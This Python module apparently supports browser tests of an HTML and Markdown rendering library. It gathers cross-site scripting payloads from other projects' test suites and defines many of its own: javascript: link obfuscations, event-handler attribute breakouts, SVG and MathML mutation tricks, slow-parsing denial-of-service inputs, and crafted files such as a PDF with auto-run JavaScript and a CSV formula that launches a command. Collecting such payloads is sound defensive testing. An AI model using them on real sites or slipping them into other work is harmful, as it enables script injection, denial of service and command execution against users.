"""Texts that attack renderers of HTML and Markdown: from the tests of other libraries, and our own.

Those of others are read out of their source distributions, which Scripts/test-browser.sh fetches by
version and digest (payloads.txt); nothing of them is run or kept here.
"""
import ast
import json
import pathlib
import re
import sys
import tarfile
import warnings

FOLDER = pathlib.Path(sys.prefix) / "payloads"

#: What makes a text worth trying.
HOT = re.compile(r"[<>]|\]\(|script|&#|data:|url\(|on\w+\s*=", re.IGNORECASE)


def published():
    """Attacks that others published, as (where it is from, text)."""
    found = {}
    for archive in sorted(FOLDER.glob("*.tar.gz")):
        with tarfile.open(archive) as file:
            for member in file:
                path = pathlib.PurePosixPath(member.name)
                name = "/".join(path.parts[1:])
                reader = next((read for pattern, read in READERS
                               if re.search(pattern, f"{path.parts[0]}/{name}")), None)
                if reader is None or not member.isfile():
                    continue
                text = file.extractfile(member).read().decode(errors="replace")
                for number, payload in enumerate(reader(text)):
                    if payload.strip() and len(payload) <= 4000:
                        found.setdefault(payload, f"{path.parts[0]}/{name} {number}")
    return [(where, text) for text, where in found.items()]


def _first_part(text):
    """A file with a payload, a line `--`, and what one library makes of it."""
    yield re.split(r"\n--\n", text)[0]


def _literals(text):
    """Strings of a Python source that could do harm."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        tree = ast.parse(text)
    for node in ast.walk(tree):
        if isinstance(node, ast.Constant):
            value = node.value
            if isinstance(value, bytes):
                value = value.decode(errors="replace")
            if isinstance(value, str) and HOT.search(value):
                yield value


def _cases(text):
    for case in json.loads(text):
        yield case["input_html"]


def _examples(text):
    for example in json.loads(text):
        yield example["markdown"]


def _fixtures(text):
    """Pairs between lines of a dot: Markdown, then HTML."""
    for part in re.findall(r"^\.\n(.*?)^\.\n.*?^\.$", text, re.MULTILINE | re.DOTALL):
        yield part


def _whole(text):
    yield text


READERS = [
    (r"bleach-.*/tests/data/.*\.test$", _first_part),
    (r"bleach-.*/tests/test_(clean|css|linkify|html5lib_shim)\.py$", _literals),
    (r"justhtml-.*/justhtml-sanitize-tests/cases\.json$", _cases),
    (r"justhtml-.*/tests/test_.*sanitize.*\.py$", _literals),
    (r"lxml_html_clean-.*/tests/test_clean\.py$", _literals),
    (r"markdown_it_py-.*/test_cmark_spec/commonmark\.json$", _examples),
    (r"markdown_it_py-.*/test_port/fixtures/(?!commonmark_spec).*\.md$", _fixtures),
    (r"markdown2-.*/tm-cases/.*(safe|xss|escape|issue|link|html|table).*\.text$", _whole),
    (r"mistune-.*/tests/test_(security\w*|misc|renderers)\.py$", _literals),
]

#: Runs where it can, and says so.
RUN = "window.__executed=1"

#: Our own, for places that hold Markdown or HTML.
TRICKS = [
    # Schemes, written so that a filter may not know them.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](\u202ejavascript:alert(1))",
    "[x](\ufeffjavascript:alert(1))",
    "[x](java\u00adscript:alert(1))",
    "[x](javascript\u200d:alert(1))",
    "[x](ja\\vascript:alert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](blob:http://127.0.0.1/1)",
    "[x](filesystem:http://127.0.0.1/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](//canary.test/x)",
    "[x](/\\canary.test/x)",
    "[x](\\\\canary.test\\x)",
    "[x](/\t/canary.test/x)",
    "[x](https:canary.test)",
    "[x](https://user:password@canary.test)",
    "[x](http://127.0.0.1:1@canary.test)",
    "[x](https://аpple.test)",
    "[x](mailto:a@b?subject=<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<https://canary.test/\"onmouseover=alert(1)>",
    "<a@b.c\"onmouseover=alert(1)>",
    "https://canary.test/\"onmouseover=alert(1)",
    "www.canary.test/'onmouseover='alert(1)",
    # Quotes, and what looks like one or is one to a browser alone.
    "[x](/ \"\\\" onmouseover=alert(1) a=\\\"\")",
    "[x](/\"\u0301 onmouseover=alert(1) a=\"\u0301)",
    "[x](/a\u0338\"onmouseover=\"alert(1))",
    "![\"\u0301 onerror=alert(1) x=\"\u0301](/x.png)",
    "![\" onerror=\"alert(1)](x.png \"\" onload=\"alert(1)\")",
    "![&quot; onerror=&quot;alert(1)](x.png)",
    "![x](x.png\"onerror=\"alert(1).png)",
    "![x`<img src=x onerror=alert(1)>`](x.png)",
    "![![<img src=x onerror=alert(1)>](y.png)](x.png)",
    "# heading \"onclick=alert(1) id=\"x\" {#x onclick=alert(1)}",
    "## <img src=x onerror=alert(1)>",
    "# content",
    "# page\n\n# find\n\n# user-content-find",
    "```\"onclick=alert(1)\ncode\n```",
    "```html'><script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "```<img src=x onerror=alert(1)>\n```",
    "~~~ \" autofocus onfocus=alert(1) x=\"\n~~~",
    # Raw HTML of every sort.
    "<script>alert(1)</script>",
    "<SCRIPT/XSS SRC=\"https://canary.test/x.js\"></SCRIPT>",
    "<script src=//canary.test/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://canary.test/pixel.png>",
    "<img src=\"x`\"onerror=alert(1)//\">",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "<img src=x:x onerror\x00=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1)></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form action=https://canary.test><input name=password autofocus></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=https://canary.test\">",
    "<link rel=stylesheet href=https://canary.test/x.css>",
    "<base href=https://canary.test/>",
    "<style>@import 'https://canary.test/x.css';</style>",
    "<p style=\"background:url(https://canary.test/x.png)\">x</p>",
    "<div style=\"position:fixed;inset:0;background:red\">x</div>",
    "<a href=/ onclick=alert(1)>x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\"/\" target=_top ping=https://canary.test>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)>",
    "<plaintext>",
    "<select><template><style><!--</style><a rel=\"--></style></select><img src=1 onerror=alert(1)>\">",
    "<frameset onload=alert(1)>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>",
    "<portal src=https://canary.test></portal>",
    "<object><param name=src value=javascript:alert(1)></object>",
    # Ends of what the page opened.
    "</article></div></main></body></html><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- never closed",
    "<!--> <img src=x onerror=alert(1)> -->",
    "<!--- --!><img src=x onerror=alert(1)> -->",
    "<?php echo 1 ?><?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<!ELEMENT <script>alert(1)</script>>",
    "</ <img src=x onerror=alert(1)>>",
    "<a href=\"never closed",
    "<img alt='never closed",
    "<div\n\n<script>alert(1)</script>\n\n>",
    # Markdown within Markdown.
    "[a [b](https://canary.test/1) c](javascript:alert(1))",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[<script>alert(1)</script>](/)",
    "[x]: javascript:alert(1)\n\n[x] [x][] [y][x]",
    "[X]: https://canary.test '\" onmouseover=\"alert(1)'\n\n[x]",
    "[x][y\n\n[y]: <javascript:alert(1)>",
    "|<script>alert(1)</script>|b|\n|---|:-:|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "|a|\n|---|\n|`|` <b>|\n",
    "* <script>\n  alert(1)\n  </script>",
    "> <script>\n> alert(1)\n> </script>",
    "1. <div\n   onclick=alert(1)>",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "**<img src=x onerror=alert(1)>**",
    "~~<img src=x onerror=alert(1)>~~",
    "<b>*x</b>*",
    "*<a title=\"*\" onclick=alert(1)>x</a>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#0;&#x110000;&#xD800;&#xFFFE;",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{alert(1)}",
    "{{{page.title}}} {{>layout}} {{csrf}} {{! x }} {{=<% %>=}}",
    # Bytes, scripts of the world, and what changes the direction of what follows.
    "\x00<script\x00>alert(1)</script>",
    "\u202e\u2066txet\u2069\u202c <img src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "\ufdd0\ufffe\uffff\U0001fffe",
    "\u0085\u2028\u2029<img src=x onerror=alert(1)>",
    "e" + "\u0301" * 500,
    "\U000e0041\U000e0042 tags, \U000f0000 private, \ud7ff edge",
    "Z̸̢a̵l̷g̶o̸ " * 20,
    "ﷺ" * 50,
]

#: Our own, for places that hold plain text: names, labels, searches, messages.
WORDS = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "\"\u0301 autofocus onfocus=alert(1) x=\"\u0301",
    "javascript:alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea></template></select></style></script><svg onload=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#34;&#62;<b>",
    "<b id=content><base href=//canary.test>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{{csrf}}}{{>layout}}",
    "${alert(1)}",
    "\u202egnp.exe",
    "\uf8ff<script>alert(1)</script>",
    "a\u2028b<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]

#: Texts that take a parser long if it looks at what it saw again and again.
SLOW = {
    "quotes": ">" * 10_000 + " x",
    "brackets": "[" * 10_000 + "x" + "]" * 10_000,
    "parentheses": "[x]" + "(" * 10_000,
    "links": "[a](" * 10_000,
    "pictures": "![a](" * 10_000,
    "emphasis": "*a " * 10_000,
    "strong": "**a **b" * 5_000,
    "underscores": "_a __b ___c " * 3_000,
    "ticks": "`" * 5_000 + " x " + "".join("`" * n + " " for n in range(1, 300)),
    "entities": "&" * 10_000 + "&#" * 5_000,
    "tags": "<" * 10_000,
    "open tags": "<a b=\"" * 5_000,
    "comments": "<!--" * 5_000,
    "declarations": "<!A " * 5_000 + "<?" * 5_000,
    "lists": "".join("  " * n + "- x\n" for n in range(400)),
    "table": "|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n" + ("|" + "x|" * 20 + "\n") * 500,
    "references": "".join(f"[r{n}]: /{n}\n" for n in range(3_000)) + "[r1]" * 3_000,
    "same reference": "[x]: /" + "y" * 900 + "\n\n" + "[x] " * 5_000,
    "headings": "# same\n\n" * 3_000,
    "underlines": "a\n" + "=" * 10_000 + "\n" + "b\n" + "-" * 10_000,
    "one line": "x" * 200_000,
    "strikes": "~~a ~b " * 5_000,
    "addresses": "https://canary.test/" + "a" * 20_000 + " www." * 3_000,
    "escapes": "\\" * 20_000,
    "accents": "a" + "\u0300" * 20_000,
}

#: Pictures and documents that run something where they are opened by themselves.
DOCUMENTS = {
    "evil.html": b"<!doctype html><script>alert(1)</script><img src=x onerror=alert(2)>",
    "evil.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
                b'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(3)"/>'
                b'</foreignObject><image href="https://canary.test/x.png"/></svg>',
    "evil.xml": b'<?xml version="1.0"?><?xml-stylesheet href="evil.xsl" type="text/xsl"?>'
                b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "evil.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "evil.js": b"alert(1)",
    "evil.css": b"body { background: url(https://canary.test/x.png) }",
    "evil.pdf": b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "evil.png": b"<script>alert(1)</script>",
    "evil.gif": b"GIF89a/*<script>alert(1)</script>*/=1;alert(1)",
    "evil.txt": b"<script>alert(1)</script>",
    "evil": b"<html><script>alert(1)</script>",
    "evil.swf": b"FWS\x05<script>alert(1)</script>",
    "evil.mhtml": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "evil.json": b'{"a": "<script>alert(1)</script>"}',
    "evil.md": b"# <script>alert(1)</script>\n\n[x](javascript:alert(1))\n",
    "evil.csv": b"=cmd|'/c calc'!A1,<script>alert(1)</script>\n",
    "evil.utf7.html": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "evil.utf16.txt": "<script>alert(1)</script>".encode("utf-16"),
}
